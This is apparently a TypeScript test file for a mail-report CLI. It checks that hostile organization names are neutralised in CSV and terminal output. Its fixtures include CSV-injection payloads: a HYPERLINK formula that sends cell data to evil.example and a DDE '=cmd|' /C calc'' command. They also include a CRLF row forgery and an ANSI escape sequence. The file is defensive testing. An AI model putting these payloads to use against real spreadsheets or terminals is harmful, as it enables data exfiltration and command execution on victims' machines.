/**
 * Report fields come from anyone who can mail us (issue 15 part 4 and finding 5): an organization-name that
 * is a spreadsheet formula must come out of `stats --format csv` as text, and one holding CR/LF or an escape
 * sequence must not forge rows or reach the terminal raw in the table.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { csvField, formatRows } from '../../src/stats/formatRows.js';
import { terminalText } from '../../src/util/terminalText.js';
import { createIngestedDatabase, type IngestedDatabase } from '../helpers/ingestedDatabase.js';

const DAY = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);
const FORGED = 'Evil Corp\r\nforged.example   fake-reporter   1   1   0   0   0%';
const ORGS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", '@SUM(1+1)', FORGED, 'Bell\u0007\u001b[2Jcleared'];

function report(org: string, i: number): object {
  return {
    'organization-name': org,
    'date-range': { 'start-datetime': `${DAY}T00:00:00Z`, 'end-datetime': `${DAY}T23:59:59Z` },
    'contact-info': 'tlsrpt@evil.example',
    'report-id': `hostile-${i}`,
    policies: [
      {
        policy: { 'policy-type': 'no-policy-found', 'policy-domain': 'hostile.example' },
        summary: { 'total-successful-session-count': 1, 'total-failure-session-count': 0 },
      },
    ],
  };
}

describe('hostile report fields in CLI output', () => {
  let ingested: IngestedDatabase;
  const cli = (...args: string[]) => ingested.cli(...args);

  before(async () => {
    ingested = await createIngestedDatabase(
      'hostile',
      ORGS.map((org, i) => ({ filename: `r${i}.json`, json: report(org, i) })),
    );
  });
  after(() => ingested?.db.drop());

  it('stats --format csv writes formulas as text (a leading quote), so a spreadsheet does not run them', async () => {
    const r = await cli('stats', '--by', 'reporter', '--since', DAY, '--format', 'csv');
    assert.equal(r.code, 0, r.stderr);
    const orgField = (line: string) => line.slice('hostile.example,'.length);
    const lines = r.stdout.split('\r\n');
    assert.ok(
      lines.some((l) => orgField(l).startsWith(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",`)),
      r.stdout,
    );
    assert.ok(
      lines.some((l) => orgField(l).startsWith(`"'=cmd|' /C calc'!A0",`)),
      r.stdout,
    );
    assert.ok(
      lines.some((l) => orgField(l).startsWith(`"'@SUM(1+1)",`)),
      r.stdout,
    );
    for (const line of lines.filter((l) => l.startsWith('hostile.example,'))) assert.match(orgField(line), /^("'|"Evil|Bell)/);
  });

  it('stats in table format shows CR, LF and escape sequences escaped: one line per row, nothing forged', async () => {
    const r = await cli('stats', '--by', 'reporter', '--since', DAY);
    assert.equal(r.code, 0, r.stderr);
    const lines = r.stdout.trimEnd().split('\n');
    assert.equal(lines.length, 1 + ORGS.length, r.stdout); // header + one line per reporter
    assert.ok(!['\r', '\u0007', '\u001b'].some((c) => r.stdout.includes(c)), 'no raw control characters reach the terminal');
    assert.ok(lines.some((l) => l.includes('Evil Corp\\r\\nforged.example')));
    assert.ok(lines.some((l) => l.includes('Bell\\x07\\x1b[2Jcleared')));
    assert.ok(!lines.some((l) => l.startsWith('forged.example')));
  });

  it('csvField: the OWASP prefixes, numbers left alone, RFC 4180 quoting kept', () => {
    assert.deepEqual(['=1+1', '+1+1', '-1+1', '@x', '\tx', '\rx', '-3', '+1.5', '1e5', 'plain', 'a,b', ''].map(csvField), [
      `"'=1+1"`,
      `"'+1+1"`,
      `"'-1+1"`,
      `"'@x"`,
      `"'\tx"`,
      `"'\rx"`,
      '-3',
      '+1.5',
      '1e5',
      'plain',
      '"a,b"',
      '',
    ]);
    assert.equal(formatRows([{ name: 'n', kind: 'count' }], [{ n: -2 }], 'csv'), 'n\r\n-2\r\n');
  });

  it('terminalText escapes C0, DEL, C1 and the bidirectional and invisible Unicode controls, nothing else', () => {
    assert.equal(terminalText('a\r\nb\tc\u0000\u007f\u009b'), 'a\\r\\nb\\tc\\x00\\x7f\\x9b');
    assert.equal(terminalText('abc\u202edef\u2066\u200b'), 'abc\\u202edef\\u2066\\u200b');
    assert.equal(terminalText('Müller Straße 日本 é'), 'Müller Straße 日本 é');
  });
});
